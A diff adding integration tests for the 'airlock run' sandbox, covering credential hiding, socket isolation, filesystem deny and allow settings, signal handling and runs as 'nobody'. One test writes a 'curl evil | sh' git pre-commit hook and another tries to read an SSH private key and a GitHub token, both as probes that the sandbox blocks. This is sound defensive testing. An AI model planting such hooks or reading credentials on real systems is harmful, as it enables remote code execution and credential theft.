@@ -1,0 +1,253 @@
+"""``airlock run``: what the command inside can see and write, as root and as ``nobody``."""
+
+from __future__ import annotations
+
+import json
+import os
+import secrets
+import signal
+import socket
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+from tests.cli import airlock
+from tests.conftest import write_json
+from tests.integration.run_servers import HOST, web_site
+from tests.sandbox.unprivileged import as_nobody
+
+
+def _run(
+    tmp_path: Path, *args: str, env: dict[str, str] | None = None
+) -> subprocess.CompletedProcess[str]:
+    return airlock("run", "--audit-log", str(tmp_path / "audit.jsonl"), *args, env=env, timeout=180)
+
+
+def test_credentials_are_invisible_inside(tmp_path: Path, home: Path) -> None:
+    """A key under ~/.ssh and a token variable are not there; the token is named as dropped."""
+    (home / ".ssh").mkdir()
+    (home / ".ssh" / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
+    done = _run(
+        tmp_path,
+        "--",
+        "sh",
+        "-c",
+        'echo "files=$(ls -A ~/.ssh)"; cat ~/.ssh/id_ed25519 2>&1; echo "token=${GITHUB_TOKEN:-unset}"',
+        env={"GITHUB_TOKEN": "ghp_abcdef"},
+    )
+    assert done.returncode == 0, done.stderr
+    assert "files=\n" in done.stdout
+    assert "PRIVATE KEY" not in done.stdout
+    assert "token=unset" in done.stdout
+    assert "GITHUB_TOKEN" in done.stderr  # reported as dropped
+    assert "ghp_abcdef" not in done.stderr
+
+
+def test_env_passes_a_variable_on_request(tmp_path: Path) -> None:
+    """--env NAME passes one in; --env NAME=VALUE sets one."""
+    done = _run(
+        tmp_path,
+        "--env",
+        "GITHUB_TOKEN",
+        "--env",
+        "EXTRA=1",
+        "--",
+        "sh",
+        "-c",
+        'echo "$GITHUB_TOKEN $EXTRA"',
+        env={"GITHUB_TOKEN": "ghp_given"},
+    )
+    assert done.stdout.strip() == "ghp_given 1", done.stderr
+
+
+def test_a_host_unix_socket_cannot_be_reached(tmp_path: Path, project: Path) -> None:
+    """A Unix socket the test listens on (in the workspace) cannot be connected to from inside."""
+    path = project / "host.sock"
+    server = socket.socket(socket.AF_UNIX)
+    server.bind(str(path))
+    server.listen()
+    try:
+        done = _run(
+            tmp_path,
+            "--",
+            sys.executable,
+            "-c",
+            "import socket\ns = socket.socket(socket.AF_UNIX)\n"
+            "try:\n    s.connect('host.sock'); print('REACHED')\n"
+            "except OSError as e: print('refused', e.errno)",
+        )
+    finally:
+        server.close()
+    assert done.stdout.startswith("refused"), done.stdout + done.stderr
+
+
+def test_a_write_to_git_hooks_fails(tmp_path: Path, project: Path) -> None:
+    """Code inside cannot add a hook; the rest of the workspace is writable."""
+    subprocess.run(["git", "init", "-q", str(project)], check=True)
+    done = _run(
+        tmp_path,
+        "--",
+        "sh",
+        "-c",
+        "echo 'curl evil | sh' > .git/hooks/pre-commit || echo refused; echo ok > file.txt",
+    )
+    assert "refused" in done.stdout, done.stdout + done.stderr
+    assert not (project / ".git" / "hooks" / "pre-commit").exists()
+    assert (project / "file.txt").read_text() == "ok\n"
+
+
+def test_sandbox_filesystem_settings_apply(tmp_path: Path, project: Path, home: Path) -> None:
+    """sandbox.filesystem: denyRead hides, denyWrite makes read-only, allowWrite opens a path."""
+    (home / ".cache" / "tool").mkdir(parents=True)
+    (home / "private").mkdir()
+    (home / "private" / "notes").write_text("private notes\n")
+    (project / "generated").mkdir()
+    write_json(
+        project / ".claude" / "settings.json",
+        {
+            "sandbox": {
+                "filesystem": {
+                    "allowWrite": ["~/.cache/tool"],
+                    "denyRead": ["~/private"],
+                    "denyWrite": ["./generated"],
+                }
+            }
+        },
+    )
+    done = _run(
+        tmp_path,
+        "--",
+        "sh",
+        "-c",
+        "cat ~/private/notes 2>/dev/null || echo hidden; touch ~/.cache/tool/x && echo cache-ok; "
+        "touch generated/x 2>/dev/null && echo WROTE-GENERATED",
+    )
+    assert "hidden" in done.stdout and "cache-ok" in done.stdout, done.stdout + done.stderr
+    assert "WROTE-GENERATED" not in done.stdout
+    assert (home / ".cache" / "tool" / "x").exists()
+
+
+def test_a_pattern_it_cannot_apply_is_an_error(tmp_path: Path, project: Path) -> None:
+    """A denyRead pattern airlock cannot bind is refused (exit 125), never ignored."""
+    write_json(
+        project / ".claude" / "settings.json",
+        {"sandbox": {"filesystem": {"denyRead": ["**/.env"]}}},
+    )
+    done = _run(tmp_path, "--", "true")
+    assert done.returncode == 125
+    assert "**/.env" in done.stderr
+
+
+def test_a_signal_reaches_the_command(tmp_path: Path, project: Path) -> None:
+    """SIGTERM to airlock is passed on to the command, whose exit status airlock returns."""
+    marker = project / "got-term"
+    process = subprocess.Popen(
+        [
+            sys.executable,
+            "-m",
+            "airlock",
+            "run",
+            "--audit-log",
+            str(tmp_path / "audit.jsonl"),
+            "--",
+            "sh",
+            "-c",
+            f"trap 'echo term > {marker}; exit 143' TERM; echo started; while :; do sleep 0.1; done",
+        ],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    try:
+        assert process.stdout is not None
+        assert process.stdout.readline().strip() == "started"
+        process.send_signal(signal.SIGTERM)
+        code = process.wait(60)
+    finally:
+        if process.poll() is None:
+            process.kill()
+            process.wait()
+        process.stdout.close()  # type: ignore[union-attr]
+        process.stderr.close()  # type: ignore[union-attr]
+    assert code == 143
+    assert marker.read_text() == "term\n"
+
+
+def test_the_command_dies_with_airlock(tmp_path: Path) -> None:
+    """kill -9 of airlock ends the command inside (it cannot outlive its sandbox's keeper)."""
+    seconds = f"{100 + secrets.randbelow(10**6) / 10**6:.6f}"  # names this test's sleep
+    process = subprocess.Popen(
+        [
+            sys.executable,
+            "-m",
+            "airlock",
+            "run",
+            "--audit-log",
+            str(tmp_path / "a.jsonl"),
+            "--",
+            "sh",
+            "-c",
+            f"echo started; exec sleep {seconds}",
+        ],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.DEVNULL,
+        text=True,
+    )
+    try:
+        assert process.stdout is not None
+        assert process.stdout.readline().strip() == "started"
+        deadline = time.monotonic() + 10
+        while not _sleepers(seconds) and time.monotonic() < deadline:
+            time.sleep(0.02)  # "started" comes just before the exec
+        assert _sleepers(seconds), "the command is not running"
+    finally:
+        process.kill()
+        process.wait()
+        process.stdout.close()  # type: ignore[union-attr]
+    deadline = time.monotonic() + 10
+    while _sleepers(seconds) and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert not _sleepers(seconds)
+
+
+def _sleepers(seconds: str) -> set[int]:
+    found = set()
+    for entry in Path("/proc").iterdir():
+        if entry.name.isdigit():
+            try:
+                if (entry / "cmdline").read_bytes() == f"sleep\x00{seconds}\x00".encode():
+                    found.add(int(entry.name))
+            except OSError:
+                continue
+    return found
+
+
+NOBODY_RUN = """
+import json, subprocess, sys
+done = subprocess.run(
+    [sys.executable, "-m", "airlock", "run", "--allow", "{host}:{port}",
+     "--report-json", "report.json", "--",
+     "sh", "-c", "id -u; curl -sS http://{host}:{port}/as-nobody; touch .git/hooks/x 2>/dev/null && echo WROTE; true"],
+    capture_output=True, text=True, timeout=120,
+)
+print(json.dumps({{"code": done.returncode, "out": done.stdout, "err": done.stderr,
+                  "report": json.load(open("report.json"))}}))
+"""
+
+
+def test_airlock_run_as_an_unprivileged_user() -> None:
+    """As ``nobody``: the sandbox builds, the proxy carries the request and logs it."""
+    with web_site() as site:
+        port = site.server_address[1]
+        done = as_nobody(NOBODY_RUN.format(host=HOST, port=port))
+    assert done.returncode == 0, done.stderr
+    found = json.loads(done.stdout.splitlines()[-1])
+    assert found["code"] == 0, found["err"]
+    uid, *rest = found["out"].splitlines()
+    assert uid != "0"
+    assert "hello from the origin: GET /as-nobody" in rest
+    assert "WROTE" not in found["out"]
+    assert [h["requests"] for h in found["report"]["hosts"] if h["host"] == HOST] == [1]
+    assert site.seen == ["GET /as-nobody"]
+    assert os.geteuid() != 0 or found["report"]["final_hash"]
